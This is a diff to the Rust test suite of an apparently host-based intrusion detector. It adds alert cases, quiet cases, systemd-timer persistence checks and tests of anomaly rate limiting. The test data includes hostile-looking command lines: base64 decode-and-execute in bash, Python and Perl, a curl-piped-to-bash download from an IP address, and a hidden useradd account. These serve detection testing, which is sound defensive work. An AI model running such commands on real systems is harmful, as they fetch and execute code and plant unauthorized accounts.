@@ -655,6 +655,21 @@ const FIRES: &[(&str, &str, &str)] = &[
         "bash -c eval $(echo aWQ= | base64 --decode)",
     ),
     (
+        "decode-and-run",
+        "/usr/bin/bash",
+        "bash -c base64 -d /home/a/p.b64 > /home/a/p.sh && sh /home/a/p.sh",
+    ),
+    (
+        "decode-and-run",
+        "/usr/bin/python3.11",
+        "python3 -c import base64,os; os.system(base64.b64decode('aWQ=').decode())",
+    ),
+    (
+        "decode-and-run",
+        "/usr/bin/perl",
+        "perl -MMIME::Base64 -e eval(decode_base64('cHJpbnQgMQ=='))",
+    ),
+    (
         "download-and-run",
         "/usr/bin/bash",
         "bash -c curl -fsSL http://198.51.100.7/x.sh | bash",
@@ -713,6 +728,11 @@ const FIRES: &[(&str, &str, &str)] = &[
         "account-created",
         "/usr/sbin/adduser",
         "adduser --disabled-password --gecos x support",
+    ),
+    (
+        "account-created",
+        "/usr/sbin/useradd",
+        "useradd -M -N -r -s /bin/bash -c evil_account art",
     ),
     (
         "account-modified",
@@ -958,6 +978,24 @@ const FIRES: &[(&str, &str, &str)] = &[
 
 /// Ordinary administration and package work that must raise nothing.
 const QUIET: &[(&str, &str)] = &[
+    // System accounts as package scripts create them.
+    (
+        "/usr/sbin/useradd",
+        "useradd -r -s /usr/sbin/nologin -d /nonexistent -M systemd-timesync",
+    ),
+    (
+        "/usr/sbin/adduser",
+        "adduser --system --home /nonexistent --no-create-home --shell /usr/sbin/nologin mosquitto",
+    ),
+    // Decoding without running what was decoded.
+    (
+        "/usr/bin/python3.11",
+        "python3 -c import base64; print(base64.b64decode('aGk='))",
+    ),
+    (
+        "/usr/bin/bash",
+        "bash -c base64 -d cert.b64 > cert.der && sha256sum cert.der",
+    ),
     (
         "/usr/sbin/apache2",
         "/usr/sbin/apache2 -k start -f /etc/apache2/.htaccess-test",
@@ -1611,6 +1649,37 @@ fn file_module_and_hardware_rules() {
             "{path}"
         );
     }
+    // A timer is also a scheduled task of its own technique.
+    for path in [
+        "/etc/systemd/system/art.timer",
+        "/usr/lib/systemd/system/fetch.timer",
+    ] {
+        assert_eq!(
+            fired(&file(path, Created, &[])),
+            ["persistence-file-written", "systemd-timer-written"],
+            "{path}"
+        );
+    }
+    assert_eq!(
+        fired(&file(
+            "/home/alice/.config/systemd/user/x.timer",
+            Modified,
+            &[]
+        )),
+        ["systemd-timer-written"]
+    );
+    assert_eq!(
+        fired(&file("/etc/systemd/system/art.timer", Deleted, &[])),
+        none
+    );
+    assert_eq!(
+        fired(&file(
+            "/etc/systemd/system/apt-daily.timer.dpkg-new",
+            Created,
+            &[]
+        )),
+        none
+    );
     assert_eq!(fired(&file("/etc/cron.d/updater", Deleted, &[])), none);
     assert_eq!(fired(&file("/etc/cron.d/updater", Attributes, &[])), none);
     assert_eq!(
@@ -2386,4 +2455,92 @@ fn local_logins_alert_and_remote_ones_do_not() {
     for op in ["sshd", "su", "sudo"] {
         assert!(fired(&local(op, Success, None)).is_empty(), "{op}");
     }
+}
+
+/// A detector with a behaviour baseline whose learning is over (it ended at the Unix epoch) and
+/// that learned nothing.
+fn watching() -> Detector {
+    let mut d = Detector::new();
+    d.set_behaviour(Behaviour::new(Duration::from_secs(1), 0));
+    d
+}
+
+/// The `behaviour-anomaly` findings: (raised, suppressed).
+fn anomalies(findings: &[Finding]) -> (usize, usize) {
+    let of_rule = |f: &&Finding| match f {
+        Finding::Raised(rule, _) | Finding::Suppressed(rule) => *rule == Rule::BehaviourAnomaly,
+    };
+    let found = findings.iter().filter(of_rule);
+    let up = found
+        .clone()
+        .filter(|f| matches!(f, Finding::Raised(..)))
+        .count();
+    (up, found.count() - up)
+}
+
+fn learned(d: &mut Detector) -> usize {
+    d.behaviour_mut().map_or(0, |b| b.len())
+}
+
+/// Issue 17: an anomaly whose alert the rate limit dropped is not learned, so it is raised when
+/// it recurs after the budget refills.
+#[test]
+fn anomalies_dropped_by_the_budget_are_raised_when_it_refills() {
+    let mut d = watching();
+    let t0 = Instant::now();
+    let budget = MAX_ALERTS_PER_MINUTE as usize;
+    let n = budget + 5;
+    let program = |i: usize| process(&format!("/opt/new/p{i}"), None);
+    for i in 0..n {
+        let at = t0 + Duration::from_millis(i as u64);
+        let expected = if i < budget { (1, 0) } else { (0, 1) };
+        assert_eq!(anomalies(&run(&mut d, &program(i), at)), expected, "p{i}");
+    }
+    // Only what was raised was learned; within the minute a dropped one is dropped again.
+    assert_eq!(learned(&mut d), budget);
+    let late = t0 + Duration::from_secs(59);
+    assert_eq!(anomalies(&run(&mut d, &program(n - 1), late)), (0, 1));
+    assert_eq!(learned(&mut d), budget);
+    // The next minute: each dropped one is raised once, then known; the others stay known.
+    let t1 = t0 + Duration::from_secs(60);
+    for i in budget..n {
+        assert_eq!(anomalies(&run(&mut d, &program(i), t1)), (1, 0), "p{i}");
+    }
+    for i in 0..n {
+        let at = t1 + Duration::from_secs(1);
+        assert_eq!(anomalies(&run(&mut d, &program(i), at)), (0, 0), "p{i}");
+    }
+    assert_eq!(learned(&mut d), n);
+}
+
+/// A repeat of an anomaly alerted within the suppression window is suppressed and learned
+/// (even with the budget spent), so it is not raised again once the window is over.
+#[test]
+fn a_repeated_anomaly_is_learned_not_raised_again() {
+    let mut d = watching();
+    let t0 = Instant::now();
+    let tool = process("/opt/new/tool", None);
+    // One event naming a new program twice: one alert, nothing suppressed.
+    let mut twice = process("/opt/new/tool", None);
+    if let Payload::ProcessCreate(v) = &mut twice.payload {
+        let mut second = v[0].clone();
+        second.process_id += 1;
+        v.push(second);
+    }
+    assert_eq!(anomalies(&run(&mut d, &twice, t0)), (1, 0));
+    assert_eq!(anomalies(&run(&mut d, &tool, t0)), (0, 0), "learned");
+    // Spend the rest of the budget.
+    for i in 1..MAX_ALERTS_PER_MINUTE {
+        let e = process(&format!("/opt/new/p{i}"), None);
+        assert_eq!(anomalies(&run(&mut d, &e, t0)), (1, 0), "p{i}");
+    }
+    // The baseline forgets the tool (loaded again) while its alert is still suppressing: the
+    // repeat is suppressed as a repeat, not dropped by the spent budget, and so learned…
+    d.set_behaviour(Behaviour::new(Duration::from_secs(1), 0));
+    let soon = t0 + Duration::from_secs(1);
+    assert_eq!(anomalies(&run(&mut d, &tool, soon)), (0, 1));
+    assert_eq!(learned(&mut d), 1);
+    // …and not raised (nor suppressed) again after the window and with a fresh budget.
+    let after = t0 + SUPPRESSION + Duration::from_secs(1);
+    assert_eq!(anomalies(&run(&mut d, &tool, after)), (0, 0));
 }
